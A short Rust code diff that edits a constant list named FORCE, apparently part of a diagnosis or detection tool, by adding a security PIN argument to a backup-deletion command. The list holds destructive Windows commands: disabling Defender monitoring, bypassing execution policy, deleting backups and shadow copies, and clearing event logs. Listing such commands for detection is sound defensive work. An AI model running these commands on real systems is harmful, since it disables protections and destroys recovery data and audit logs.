@@ -12,7 +12,7 @@ use crate::{Ask, Diagnoser, Diagnosis, NoAnswer};
 pub const FORCE: [&str; 9] = [
     "Set-MpPreference -DisableRealtimeMonitoring $true",
     "Set-ExecutionPolicy Bypass -Scope LocalMachine -Force",
-    "Remove-OBPolicy -DeleteBackup -Force -Confirm:$false",
+    "Remove-OBPolicy -DeleteBackup -SecurityPIN 123456 -Force -Confirm:$false",
     "wevtutil cl CloudBackup",
     "wevtutil cl System",
     "vssadmin delete shadows /all /quiet",
